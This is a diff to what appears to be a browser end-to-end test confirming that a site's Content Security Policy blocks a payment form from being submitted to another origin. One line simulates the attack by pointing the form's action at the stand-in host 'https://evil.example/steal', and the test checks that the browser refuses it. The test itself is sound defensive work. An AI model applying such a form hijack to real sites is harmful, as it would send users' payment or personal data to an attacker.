@@ -81,17 +81,14 @@ describe('55: a hidden form', () => {
     const asked: string[] = [];
     context.on('request', (request) => asked.push(request.url()));
     await page.goto('/tramites-y-consultas', { waitUntil: 'networkidle' });
-    await page.evaluate(() =>
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-        document.title = effectiveDirective;
-      }),
-    );
     await payment(page).evaluate((button: HTMLButtonElement) => {
       button.form?.setAttribute('action', 'https://evil.example/steal');
       button.form?.setAttribute('target', '_self');
       button.click();
     });
-    await expect.poll(() => page.title()).toBe('form-action');
+    await expect
+      .poll(() => complaints.join('\n'))
+      .toContain('violates the following Content Security Policy directive: "form-action');
     expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
     complaints.length = 0;
     await context.close();
